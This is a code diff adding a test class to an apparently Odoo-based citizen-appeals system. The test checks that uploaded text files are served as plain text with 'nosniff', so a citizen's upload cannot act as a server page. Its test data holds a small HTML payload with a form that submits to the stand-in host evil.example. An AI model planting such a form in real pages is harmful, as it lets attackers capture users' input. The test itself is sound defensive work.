@@ -246,3 +246,32 @@ class TestAttackDrafts(SubmissionCase, HttpCase):
         self.assertEqual(draft.values["text"], "Яма 3")
         self.assertEqual(len(draft._get_files()), 2)
         self.assertTrue(html.fromstring(answer.text).xpath("//*[@id='f_files_error']"))
+
+
+@tagged("post_install", "-at_install")
+@freeze_time(NOW)
+class TestAttackFiles(SubmissionCase, HttpCase):
+    """K1: nothing that a citizen sends is a page of the server."""
+
+    PAGE = b"<title>x</title><form action=//evil.example><input></form>"
+
+    def test_a_text_of_marks_is_shown_as_text(self):
+        appeal = self._submit(files=[("a.txt", self.PAGE)])
+        request = appeal.with_user(self.citizen)._take_request(
+            "supplement", "Ещё", [("b.txt", self.PAGE)]
+        )
+        documents = appeal.document_ids | request.document_ids
+        pages = documents.filtered(lambda file: file.name in ("a.txt", "b.txt"))
+        self.assertEqual(len(pages), 2)
+        self.assertEqual(set(pages.mapped("mimetype")), {"text/plain"})
+        self.env.flush_all()
+        user = self.users["registrar"]
+        self.authenticate(user.login, user.login)
+        for file in pages:
+            answer = self.url_open(f"/web/content/citizen.document/{file.id}/content")
+            self.assertEqual(answer.status_code, 200)
+            self.assertEqual(
+                answer.headers["Content-Type"], "text/plain; charset=utf-8"
+            )
+            self.assertEqual(answer.headers["X-Content-Type-Options"], "nosniff")
+            self.assertEqual(answer.content, self.PAGE)
